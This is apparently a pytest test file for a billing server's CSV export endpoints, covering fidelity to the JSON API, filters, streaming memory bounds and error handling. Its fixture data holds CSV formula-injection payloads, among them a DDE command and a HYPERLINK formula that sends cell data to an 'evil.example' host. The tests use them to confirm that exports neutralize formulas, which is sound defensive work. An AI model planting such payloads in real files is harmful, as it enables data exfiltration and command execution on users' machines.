"""CSV exports (`/admin/api/v1/exports/*.csv`, docs/exports.md) through a real `tollgate serve` on
SQLite and PostgreSQL: the invoices export says exactly what the JSON API says (amounts as the
same strings), filters select what they name, hostile text round-trips through Python's `csv`
module with formulas neutralized, a 100,000-line export streams in bounded memory with its first
bytes early, a client that hangs up mid-export leaves the server serving, and bad filters are the
JSON error object before any CSV."""

import csv
import datetime as dt
import http.client
import io
import shutil
import threading
import time

import pytest

from support import contract
from support.control_plane import Api
from support.envoy import rss_kb
from test_control_plane import assert_error

#: The server's resident memory may grow by at most this much while it streams the 100,000-line
#: export (about 60 MB of CSV: holding it, or its rows, would take several times this bound).
RSS_GROWTH_BOUND_KB = 32 * 1024
#: Lines of the large export.
BIG_LINES = 100_000
#: Long descriptions make the large export's bytes far exceed the memory bound.
BIG_DESCRIPTION = "Monthly usage of the search API, region eu-central, " + "x" * 600

ADDRESS_FORMULA = "=cmd|' /C calc'!A0"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\tTabbed",
    'Comma, "quoted" and ; semicolon',
    "Zoë 東京 ✓ — 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
]


@pytest.fixture
def api(server):
    return Api(server.base, server.admin_token)


def download(server, path, token=None):
    """GET an export; (status, headers, raw body). The answer is checked against /openapi.json."""
    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
    headers = {"Authorization": f"Bearer {token or server.admin_token}"}
    try:
        conn.request("GET", path, headers=headers)
        r = conn.getresponse()
        raw = r.read()
        hs = {k.lower(): v for k, v in r.getheaders()}
    finally:
        conn.close()
    # contract.check reads a text/* body as text, as its `string` schema says.
    contract.check(server.base, "GET", path, headers, r.status, hs, raw)
    return r.status, hs, raw


def rows_of(raw):
    """The CSV as a list of dicts (Python's csv module: RFC 4180 quoting, CRLF)."""
    text = raw.decode("utf-8")
    assert text.endswith("\r\n")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def export(server, name, query=""):
    st, hs, raw = download(server, f"/admin/api/v1/exports/{name}.csv{query}")
    assert st == 200, raw[:500]
    assert hs["content-type"].startswith("text/csv")
    today = dt.datetime.now(dt.timezone.utc).date().isoformat()
    assert hs["content-disposition"] == f'attachment; filename="{name}-{today}.csv"'
    return rows_of(raw)


def catalog(api):
    svc = api.ok("POST", "/services", {"name": f"Export {time.monotonic_ns()}"})
    plan = api.ok("POST", "/plans", {"service_id": svc["id"], "name": "Exported", "fixed_fee": "0"})
    return svc, plan


def invoice(api, account_id, lines, issue=True):
    inv = api.ok("POST", "/invoices", {"account_id": account_id})
    for description, quantity, unit_price in lines:
        api.ok("POST", f"/invoices/{inv['id']}/lines",
               {"description": description, "quantity": quantity, "unit_price": unit_price})
    if issue:
        inv = api.ok("POST", f"/invoices/{inv['id']}/issue", {}, status=200)
    return api.ok("GET", f"/invoices/{inv['id']}")


def all_invoices(api):
    out, after = [], ""
    while True:
        page = api.ok("GET", f"/invoices?limit=100{'&starting_after=' + after if after else ''}")
        out += page["data"]
        if not page["has_more"]:
            return out
        after = page["next_cursor"]


# ---- invoices: exactly what the JSON API says ----

def test_invoice_export_equals_the_json_api_to_the_character(server, api):
    a = api.ok("POST", "/accounts", {"name": "Exact GmbH", "email": "exact@example.com", "vat_rate": "19"})
    b = api.ok("POST", "/accounts", {"name": "Other Ltd", "email": "other@example.com", "vat_rate": "7.7"})
    invoice(api, a["id"], [("Setup", "1", "0.10"), ("Calls", "3", "0.3333"), ("Discount", "1", "-0.05")])
    invoice(api, a["id"], [("Big", "1", "1234567.89")])
    invoice(api, b["id"], [("Draft line", "2.5", "4.2")], issue=False)
    invoice(api, b["id"], [], issue=False)  # no lines: still one row, line columns empty
    expected = all_invoices(api)
    assert len(expected) == 4

    rows = export(server, "invoices")
    by_invoice = {}
    for r in rows:
        by_invoice.setdefault(r["invoice_id"], []).append(r)
    assert set(by_invoice) == {i["id"] for i in expected}
    for inv in expected:
        got = by_invoice[inv["id"]]
        assert len(got) == max(1, len(inv["lines"])), (inv, got)
        for r in got:
            assert r["kind"] == inv["object"]
            assert r["number"] == (inv["number"] or "")
            assert r["state"] == inv["state"]
            assert r["account_id"] == inv["account_id"]
            assert r["currency"] == inv["currency"]
            assert (r["subtotal"], r["tax"], r["total"]) == (inv["subtotal"], inv["tax"], inv["total"])
            assert r["vat_rate"] == (inv["vat_rate"] or "")
            assert (r["period_start"], r["period_end"]) == (inv["period"]["start"], inv["period"]["end"])
            assert r["due_date"] == (inv["due_date"] or "")
            buyer = inv["buyer"] or {}
            assert (r["buyer_name"], r["buyer_email"]) == (buyer.get("name", ""), buyer.get("email", ""))
            if inv["issued_at"]:
                issued = dt.datetime.fromtimestamp(inv["issued_at"], dt.timezone.utc)
                assert r["issued_at"] == issued.strftime("%Y-%m-%dT%H:%M:%SZ")
            else:
                assert r["issued_at"] == ""
            created = dt.datetime.fromtimestamp(inv["created_at"], dt.timezone.utc)
            assert r["created_at"] == created.strftime("%Y-%m-%dT%H:%M:%SZ")
        if not inv["lines"]:
            assert all(got[0][c] == "" for c in got[0] if c.startswith("line_"))
        for r, line in zip(got, inv["lines"]):
            assert r["line_id"] == line["id"]
            assert r["line_kind"] == line["kind"]
            assert r["line_description"] == line["description"]
            assert (r["line_quantity"], r["line_unit_price"], r["line_amount"]) == \
                (line["quantity"], line["unit_price"], line["amount"])
    # The strings themselves, not just equal parses: "0.10" stays "0.10", a discount stays negative.
    amounts = {r["line_description"]: r["line_amount"] for r in rows}
    assert amounts["Setup"] == "0.10" and amounts["Discount"] == "-0.05" and amounts["Big"] == "1234567.89"

    # One row per invoice, the same invoice columns.
    per_invoice = export(server, "invoices", "?lines=false")
    assert [r["invoice_id"] for r in per_invoice] == sorted(i["id"] for i in expected)
    assert "line_id" not in per_invoice[0]
    for r in per_invoice:
        assert {k: v for k, v in by_invoice[r["invoice_id"]][0].items() if not k.startswith("line_")} == r


def test_invoice_filters_select_what_they_name(server, api):
    a = api.ok("POST", "/accounts", {"name": "Filter A", "email": "a@example.com"})
    b = api.ok("POST", "/accounts", {"name": "Filter B", "email": "b@example.com"})
    issued = invoice(api, a["id"], [("One", "1", "5")])
    draft = invoice(api, a["id"], [("Two", "1", "6")], issue=False)
    other = invoice(api, b["id"], [("Three", "1", "7"), ("Four", "1", "8")])

    def ids(query):
        return sorted({r["invoice_id"] for r in export(server, "invoices", query)})

    assert ids(f"?account_id={a['id']}") == sorted([issued["id"], draft["id"]])
    assert ids("?state=open") == [draft["id"]]
    assert ids(f"?state=pending&account_id={b['id']}") == [other["id"]]
    today = dt.datetime.now(dt.timezone.utc).date()
    tomorrow = (today + dt.timedelta(days=1)).isoformat()
    # Issue dates: drafts have none, so a date range leaves them out.
    assert ids(f"?since={today.isoformat()}&until={tomorrow}") == sorted([issued["id"], other["id"]])
    assert ids(f"?since={tomorrow}") == []
    assert ids(f"?until={today.isoformat()}T00:00:00Z") == []
    currency = issued["currency"]
    assert len(ids(f"?currency={currency}")) == 3
    assert ids("?currency=" + ("JPY" if currency != "JPY" else "EUR")) == []
    assert ids("?kind=credit_note") == []
    assert len(export(server, "invoices", f"?account_id={b['id']}")) == 2


def test_bad_filters_are_the_error_object_before_any_csv(server, api):
    for path, status, code, param in [
        ("/exports/invoices.csv?state=lost", 400, "invalid_state", "state"),
        ("/exports/invoices.csv?since=yesterday", 400, "invalid_time", "since"),
        ("/exports/invoices.csv?since=2026-12-01&until=2026-11-01", 400, "invalid_range", "until"),
        ("/exports/invoices.csv?currency=XYZ", 422, "unknown_currency", "currency"),
        ("/exports/invoices.csv?lines=maybe", 400, "invalid_query", None),
        ("/exports/invoices.csv?colour=red", 400, "invalid_query", None),
        ("/exports/usage.csv", 400, "missing_parameter", "since"),
        ("/exports/usage.csv?since=2026-01-01", 400, "missing_parameter", "until"),
        ("/exports/usage.csv?since=2020-01-01&until=2026-01-01", 400, "invalid_range", "until"),
        ("/exports/usage.csv?since=2026-01-01&until=2026-02-01&granularity=week", 400,
         "invalid_granularity", "granularity"),
        ("/exports/applications.csv?state=asleep", 400, "invalid_state", "state"),
        ("/exports/accounts.csv?created_since=01/02/2026", 400, "invalid_time", "created_since"),
    ]:
        resp = api.get(path)
        assert resp[2]["content-type"].startswith("application/json"), path
        assert_error(resp, status, code, param)
    # Without a token: 401, as every admin route.
    st, _, _ = api.call("GET", "/admin/api/v1/exports/accounts.csv", token=None)
    assert st == 401


# ---- hostile text ----

def test_hostile_text_round_trips_and_formulas_are_neutralized(server, api):
    svc, plan = catalog(api)
    made = []
    for name in HOSTILE:
        acc = api.ok("POST", "/accounts", {"name": name, "email": "h@example.com",
                                           "billing_address": {"line1": ADDRESS_FORMULA, "city": "=1+1"}})
        app = api.ok("POST", "/applications", {"account_id": acc["id"], "plan_id": plan["id"], "name": name,
                                               "description": name})
        made.append((name, acc, app))
    # Text with line breaks and a carriage return at the start, stored directly (the API refuses
    # control characters in names; stored text is what an export must survive either way).
    multiline = "Line one,\r\nline \"two\"\n=three"
    starts_cr = "\rCR first"
    server.db.query(f"UPDATE accounts SET name = '{multiline}' WHERE id = '{made[0][1]['id']}'")
    starts_tab = "\tTab first"  # the API trims names; stored text may still start so
    server.db.query(f"UPDATE applications SET description = '{starts_cr}' WHERE id = '{made[0][2]['id']}'")
    server.db.query(f"UPDATE applications SET name = '{starts_tab}' WHERE id = '{made[1][2]['id']}'")

    def shown(text):
        return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text

    accounts = {r["account_id"]: r for r in export(server, "accounts")}
    apps = {r["application_id"]: r for r in export(server, "applications")}
    for i, (name, acc, app) in enumerate(made):
        ra, rp = accounts[acc["id"]], apps[app["id"]]
        # As the API stored them (it trims names: "\tTabbed" is "Tabbed").
        stored_account, stored_app = acc["name"], app["name"]
        assert ra["name"] == shown(multiline if i == 0 else stored_account)
        assert ra["address_line1"] == "'" + ADDRESS_FORMULA
        assert ra["address_city"] == "'=1+1"
        assert rp["name"] == shown(starts_tab if i == 1 else stored_app)
        assert rp["description"] == shown(starts_cr if i == 0 else app["description"])
        assert rp["account_name"] == shown(multiline if i == 0 else stored_account)
        assert rp["plan_id"] == plan["id"] and rp["service_id"] == svc["id"] and rp["state"] == "live"
        # Numbers and ids are never prefixed.
        assert ra["credit_balance"] == "0.00" and ra["vat_rate"] == "0" and ra["applications"] == "1"

    # Invoices: the frozen buyer name and manual line descriptions are user text; a negative
    # amount is a number and stays as it is.
    acc = made[1][1]
    inv = invoice(api, acc["id"], [(HOSTILE[0], "1", "10"), ("-discount", "1", "-2.50")])
    rows = export(server, "invoices", f"?account_id={acc['id']}")
    assert [r["line_description"] for r in rows] == [shown(HOSTILE[0]), "'-discount"]
    assert [r["line_amount"] for r in rows] == [line["amount"] for line in inv["lines"]] == ["10.00", "-2.50"]
    assert rows[0]["buyer_name"] == shown(acc["name"]) == "'+SUM(1,2)"


# ---- usage ----

def test_usage_export_sums_hours_into_days_and_months_and_filters(server, api):
    svc, plan = catalog(api)
    other_svc, other_plan = catalog(api)
    acc = api.ok("POST", "/accounts", {"name": "Usage Co", "email": "u@example.com"})
    app = api.ok("POST", "/applications", {"account_id": acc["id"], "plan_id": plan["id"], "name": "Meter"})
    app2 = api.ok("POST", "/applications", {"account_id": acc["id"], "plan_id": other_plan["id"], "name": "Other"})
    metrics = {m["name"]: m["id"] for m in api.ok("GET", f"/services/{svc['id']}/metrics?limit=100")["data"]}
    other_hits = api.ok("GET", f"/services/{other_svc['id']}/metrics?limit=100")["data"][0]["id"]
    base = int(dt.datetime(2026, 10, 31, 22, tzinfo=dt.timezone.utc).timestamp())
    hour = 3600
    counters = [(app["id"], metrics["hits"], base + h * hour, v)
                for h, v in [(0, 5), (1, 7), (2, 11), (3, 13), (26, 17)]]
    counters.append((app2["id"], other_hits, base + 2 * hour, 1000))
    values = ", ".join(f"('{a}', '{m}', {b}, {v})" for a, m, b, v in counters)
    server.db.query(f"INSERT INTO usage_counters (application_id, metric_id, bucket_start, value) VALUES {values}")
    app_id = counters[0][0]

    def usage(query):
        return [(r["application_id"], r["metric"], r["bucket_start"], r["bucket_end"], r["value"])
                for r in export(server, "usage", query)]

    q = "?since=2026-10-31&until=2026-11-03"
    assert usage(q + f"&granularity=day&application_id={app_id}") == [
        (app_id, "hits", "2026-10-31T00:00:00Z", "2026-11-01T00:00:00Z", "12"),
        (app_id, "hits", "2026-11-01T00:00:00Z", "2026-11-02T00:00:00Z", "24"),
        (app_id, "hits", "2026-11-02T00:00:00Z", "2026-11-03T00:00:00Z", "17"),
    ]
    assert usage(q + f"&granularity=month&service_id={svc['id']}") == [
        (app_id, "hits", "2026-10-01T00:00:00Z", "2026-11-01T00:00:00Z", "12"),
        (app_id, "hits", "2026-11-01T00:00:00Z", "2026-12-01T00:00:00Z", "41"),
    ]
    hours = usage("?since=2026-11-01T00:00:00Z&until=2026-11-01T02:00:00Z&granularity=hour&metric=hits")
    # Ids are time-ordered: the first application's rows come first.
    assert [(h[0], h[2], h[4]) for h in hours] == [
        (app_id, "2026-11-01T00:00:00Z", "11"), (app_id, "2026-11-01T01:00:00Z", "13"),
        (app2["id"], "2026-11-01T00:00:00Z", "1000")]
    assert usage(q + "&metric=nothing") == []
    # 2,500 hours of one application: days summed across the export's batches of 1,000 counters.
    long_app = api.ok("POST", "/applications", {"account_id": acc["id"], "plan_id": plan["id"], "name": "Long"})
    start = int(dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc).timestamp())
    hours = 2500
    server.db.query(f"INSERT INTO usage_counters (application_id, metric_id, bucket_start, value) SELECT "
                    f"'{long_app['id']}', '{metrics['hits']}', {start} + i * {hour}, i % 7 + 1 "
                    f"FROM {series(server, hours)}")
    days = {}
    for h in range(hours):
        day = dt.datetime.fromtimestamp(start + h * hour, dt.timezone.utc).strftime("%Y-%m-%dT00:00:00Z")
        days[day] = days.get(day, 0) + h % 7 + 1
    got = usage(f"?since=2026-01-01&until=2026-06-01&application_id={long_app['id']}")
    assert [(r[2], int(r[4])) for r in got] == sorted(days.items())
    got_hours = export(server, "usage", f"?since=2026-01-01&until=2026-06-01&granularity=hour"
                                        f"&application_id={long_app['id']}")
    assert [int(r["value"]) for r in got_hours] == [h % 7 + 1 for h in range(hours)]
    rows = export(server, "usage", q + f"&application_id={app_id}")
    assert rows[0]["account_id"] == acc["id"] and rows[0]["service_id"] == svc["id"]
    assert rows[0]["application_name"] == "Meter" and rows[0]["granularity"] == "day"


def test_directory_filters(server, api):
    svc, plan = catalog(api)
    _, other_plan = catalog(api)
    a = api.ok("POST", "/accounts", {"name": "Dir A", "email": "a@example.com"})
    b = api.ok("POST", "/accounts", {"name": "Dir B", "email": "b@example.com"})
    live = api.ok("POST", "/applications", {"account_id": a["id"], "plan_id": plan["id"], "name": "Live"})
    off = api.ok("POST", "/applications", {"account_id": b["id"], "plan_id": other_plan["id"], "name": "Off"})
    api.ok("POST", f"/applications/{off['id']}/suspend", {}, status=200)

    def ids(name, query, key):
        return sorted(r[key] for r in export(server, name, query))

    assert ids("applications", "?state=suspended", "application_id") == [off["id"]]
    assert ids("applications", f"?plan_id={plan['id']}", "application_id") == [live["id"]]
    assert ids("applications", f"?service_id={svc['id']}", "application_id") == [live["id"]]
    assert ids("applications", f"?account_id={b['id']}", "application_id") == [off["id"]]
    assert ids("accounts", f"?plan_id={other_plan['id']}", "account_id") == [b["id"]]
    assert ids("accounts", f"?service_id={svc['id']}", "account_id") == [a["id"]]
    tomorrow = (dt.datetime.now(dt.timezone.utc).date() + dt.timedelta(days=1)).isoformat()
    assert ids("accounts", f"?created_since={tomorrow}", "account_id") == []
    assert ids("applications", "?created_since=2020-01-01", "application_id") == sorted([live["id"], off["id"]])


# ---- size, memory, disconnects ----

@pytest.fixture
def leave_no_db():
    """Directories of SQLite databases to remove once their server has stopped. Listed before
    `server` in a test's arguments, it is torn down after it; the large exports' databases are
    about 90 MB each, and the shared fixture leaves SQLite files behind."""
    dirs = []
    yield dirs
    for d in dirs:
        shutil.rmtree(d, ignore_errors=True)


def series(server, n):
    """A FROM item of the integers 0..n-1 as column `i`, in this server's SQL dialect."""
    if server.db.backend == "sqlite":
        return f"(WITH RECURSIVE s(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM s WHERE i < {n - 1}) SELECT i FROM s)"
    return f"generate_series(0, {n - 1}) AS s(i)"


def seed_big(server, api, leave_no_db):
    """BIG_LINES invoice lines (1,000 invoices of 100), written straight into the database."""
    if server.db.backend == "sqlite":
        leave_no_db.append(server.db.dir)
    acc = api.ok("POST", "/accounts", {"name": "Big Buyer", "email": "big@example.com"})
    invoices, per = BIG_LINES // 100, 100
    now = int(time.time())
    day = now // 86400
    inv_sql = ("INSERT INTO invoices (id, account_id, kind, state, currency, period_start, period_end, subtotal, tax, "
               "total, created_at, updated_at) SELECT 'inv_big_' || {pad}, '{acc}', 'invoice', 'open', 'EUR', "
               f"{day}, {day + 30}, '100.00', '0.00', '100.00', {now}, {now} FROM {{series}}")
    line_sql = ("INSERT INTO invoice_lines (id, invoice_id, position, kind, description, quantity, unit_price, amount) "
                "SELECT 'iln_big_' || {lpad}, 'inv_big_' || {ipad}, {pos}, 'manual', "
                f"'{BIG_DESCRIPTION}', '1', '1.00', '1.00' FROM {{series}}")
    if server.db.backend == "sqlite":
        pad = lambda e: f"printf('%06d', {e})"  # noqa: E731
    else:
        pad = lambda e: f"lpad(({e})::text, 6, '0')"  # noqa: E731
    server.db.query(inv_sql.format(pad=pad("i"), acc=acc["id"], series=series(server, invoices)))
    server.db.query(line_sql.format(lpad=pad("i"), ipad=pad(f"i / {per}"), pos=f"i % {per}",
                                    series=series(server, BIG_LINES)))
    return acc


def test_a_100k_line_export_streams_in_bounded_memory(leave_no_db, server, api):
    acc = seed_big(server, api, leave_no_db)
    # Invoices without lines between and after the others: one row each, wherever the batches
    # of invoices and of lines happen to end.
    empty = ["inv_big_000123z", "inv_big_000500z", "inv_big_000999z"]
    for inv_id in empty:
        server.db.query(f"INSERT INTO invoices (id, account_id, kind, state, currency, period_start, period_end, "
                        f"subtotal, tax, total, created_at, updated_at) SELECT '{inv_id}', account_id, kind, state, "
                        "currency, period_start, period_end, subtotal, tax, total, created_at, updated_at "
                        "FROM invoices WHERE id = 'inv_big_000000'")
    pid = server.proc.pid
    # Warm up (pool connections, prepared statements, allocator arenas) on a small export.
    export(server, "invoices", f"?account_id={acc['id']}&lines=false")
    before = rss_kb(pid)
    peak = [before]
    stop = threading.Event()

    def sample():
        while not stop.is_set():
            peak[0] = max(peak[0], rss_kb(pid))
            time.sleep(0.01)

    sampler = threading.Thread(target=sample)
    sampler.start()
    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
    try:
        start = time.monotonic()
        conn.request("GET", f"/admin/api/v1/exports/invoices.csv?account_id={acc['id']}",
                     headers={"Authorization": f"Bearer {server.admin_token}"})
        r = conn.getresponse()
        assert r.status == 200 and r.getheader("transfer-encoding") == "chunked"
        first = r.read1(65536)
        first_at = time.monotonic() - start
        chunks = [first]
        while True:
            chunk = r.read1(1 << 20)
            if not chunk:
                break
            chunks.append(chunk)
        total = time.monotonic() - start
    finally:
        conn.close()
        stop.set()
        sampler.join()
    raw = b"".join(chunks)
    growth = peak[0] - before
    print(f"{server.db.backend}: {len(raw) / 1e6:.1f} MB in {total:.2f} s, first bytes after {first_at * 1000:.0f} ms, "
          f"RSS {before} KiB -> peak {peak[0]} KiB (+{growth} KiB)")
    assert len(raw) > 2 * RSS_GROWTH_BOUND_KB * 1024  # the bound could not hold the file
    rows = rows_of(raw)
    assert len(rows) == BIG_LINES + len(empty)
    keys = [(r["invoice_id"], int(r["line_position"] or -1)) for r in rows]
    assert keys == sorted(keys) and len(set(keys)) == len(keys)
    assert rows[0]["invoice_id"] == "inv_big_000000" and rows[0]["line_position"] == "0"
    assert rows[-1]["invoice_id"] == "inv_big_000999z" and rows[-1]["line_id"] == ""
    assert [r["invoice_id"] for r in rows if not r["line_id"]] == empty
    assert len({r["line_id"] for r in rows if r["line_id"]}) == BIG_LINES
    assert growth < RSS_GROWTH_BOUND_KB, f"RSS grew {growth} KiB streaming {len(raw)} bytes"
    # Streamed: the header and first rows came long before the export was complete.
    assert first_at < total / 4, (first_at, total)


def test_a_client_that_hangs_up_mid_export_leaves_the_server_healthy(leave_no_db, server, api):
    acc = seed_big(server, api, leave_no_db)
    for _ in range(3):
        conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
        conn.request("GET", f"/admin/api/v1/exports/invoices.csv?account_id={acc['id']}",
                     headers={"Authorization": f"Bearer {server.admin_token}"})
        r = conn.getresponse()
        assert r.status == 200
        assert r.read1(4096)
        conn.sock.close()  # gone, mid-export
        conn.close()
    time.sleep(0.3)
    assert server.proc.poll() is None
    st, body, _ = api.call("GET", "/healthz", token=None)
    assert st == 200
    # The pool gave every connection back: whole exports still complete, several at once.
    results = []

    def whole():
        results.append(len(export(server, "invoices", f"?account_id={acc['id']}&lines=false")))

    threads = [threading.Thread(target=whole) for _ in range(3)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert results == [BIG_LINES // 100] * 3
    assert api.ok("GET", "/accounts?limit=1")["data"]


# ---- the admin portal's downloads ----

def portal_link(html, file):
    """The href of the page's download link for `file` (HTML-unescaped)."""
    import html as html_lib
    import re
    m = re.search(r'href="(/admin/exports/' + re.escape(file) + r'[^"]*)"', html)
    assert m, f"no download link for {file}"
    return html_lib.unescape(m.group(1))


def test_portal_downloads_are_the_api_exports_with_the_pages_filters(server, api):
    from test_portal import Browser

    _, plan = catalog(api)
    a = api.ok("POST", "/accounts", {"name": "=Portal A", "email": "pa@example.com"})
    b = api.ok("POST", "/accounts", {"name": "Portal B", "email": "pb@example.com"})
    api.ok("POST", "/applications", {"account_id": a["id"], "plan_id": plan["id"], "name": "App A"})
    api.ok("POST", "/applications", {"account_id": b["id"], "plan_id": plan["id"], "name": "App B"})
    invoice(api, a["id"], [("Pending one", "1", "9.99")])
    invoice(api, b["id"], [("Draft one", "1", "1")], issue=False)

    # Not signed in: the sign-in redirect, never a file.
    anon = Browser(server.port)
    st, headers, _ = anon.request("GET", "/admin/exports/invoices.csv")
    assert st == 303 and headers["location"] == "/admin/sign_in"
    # A read-scope session is enough to download.
    reader = api.ok("POST", "/tokens", {"name": "exporter", "scope": "read"})
    admin = Browser(server.port)
    admin.submit("/admin/sign_in", {"token": reader["token"]})

    def follow(href):
        st, headers, body = admin.request("GET", href)
        assert st == 200 and headers["content-type"].startswith("text/csv"), (st, body[:300])
        assert headers["content-disposition"].startswith('attachment; filename="')
        return body

    def api_export(name, query):
        return download(server, f"/admin/api/v1/exports/{name}.csv{query}")[2].decode()

    _, _, page = admin.request("GET", f"/admin/invoices?state=pending&account_id={a['id']}")
    href = portal_link(page, "invoices.csv")
    assert href == f"/admin/exports/invoices.csv?state=pending&account_id={a['id']}"
    body = follow(href)
    assert body == api_export("invoices", f"?state=pending&account_id={a['id']}")
    assert [r["line_description"] for r in rows_of(body.encode())] == ["Pending one"]

    _, _, page = admin.request("GET", "/admin/accounts")
    assert follow(portal_link(page, "accounts.csv")) == api_export("accounts", "")
    assert "'=Portal A" in follow(portal_link(page, "accounts.csv"))
    assert follow(portal_link(page, "applications.csv")) == api_export("applications", "")
    _, _, page = admin.request("GET", f"/admin/accounts/{b['id']}")
    apps = rows_of(follow(portal_link(page, "applications.csv")).encode())
    assert [r["name"] for r in apps] == ["App B"]

    _, _, page = admin.request("GET", "/admin")
    href = portal_link(page, "usage.csv")
    today = dt.datetime.now(dt.timezone.utc).date()
    assert f"since={today.isoformat()}" in href and "granularity=hour" in href
    assert follow(href) == api_export("usage", "?" + href.split("?", 1)[1])
    assert 'action="/admin/exports/usage.csv"' in page

    # A bad filter is the portal's error page, not a CSV.
    st, headers, body = admin.request("GET", "/admin/exports/usage.csv?since=soon&until=later")
    assert st == 400 and headers["content-type"].startswith("text/html")
    assert admin.request("GET", "/admin/exports/secrets.csv")[0] == 404


def test_a_failure_mid_export_breaks_the_download_and_one_at_the_start_is_the_error_object(leave_no_db, server, api):
    acc = seed_big(server, api, leave_no_db)
    path = f"/admin/api/v1/exports/invoices.csv?account_id={acc['id']}"
    # A corrupt amount far into the export (invoice 500 of 1,000): found after the answer started.
    server.db.query("UPDATE invoice_lines SET amount = 'not money' WHERE id = 'iln_big_050000'")
    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
    try:
        conn.request("GET", path, headers={"Authorization": f"Bearer {server.admin_token}"})
        r = conn.getresponse()
        assert r.status == 200
        got = b""
        with pytest.raises(http.client.IncompleteRead):
            while True:
                chunk = r.read1(1 << 20)
                if not chunk:
                    break
                got += chunk
    finally:
        conn.close()
    # Never a file that looks whole: the rows before the bad one came, the download is cut.
    assert got.startswith(b"invoice_id,") and b"iln_big_040000" in got and b"iln_big_050001" not in got
    assert "export failed mid-stream" in server.log()
    # Found in the first batch: the status says so, with the error object.
    server.db.query("UPDATE invoice_lines SET amount = 'not money' WHERE id = 'iln_big_000005'")
    st, body, hs = api.get(f"/exports/invoices.csv?account_id={acc['id']}")
    assert st == 500 and hs["content-type"].startswith("application/json")
    assert set(body["error"]) == {"type", "code", "message", "param"}
    assert api.ok("GET", "/accounts?limit=1")["data"]
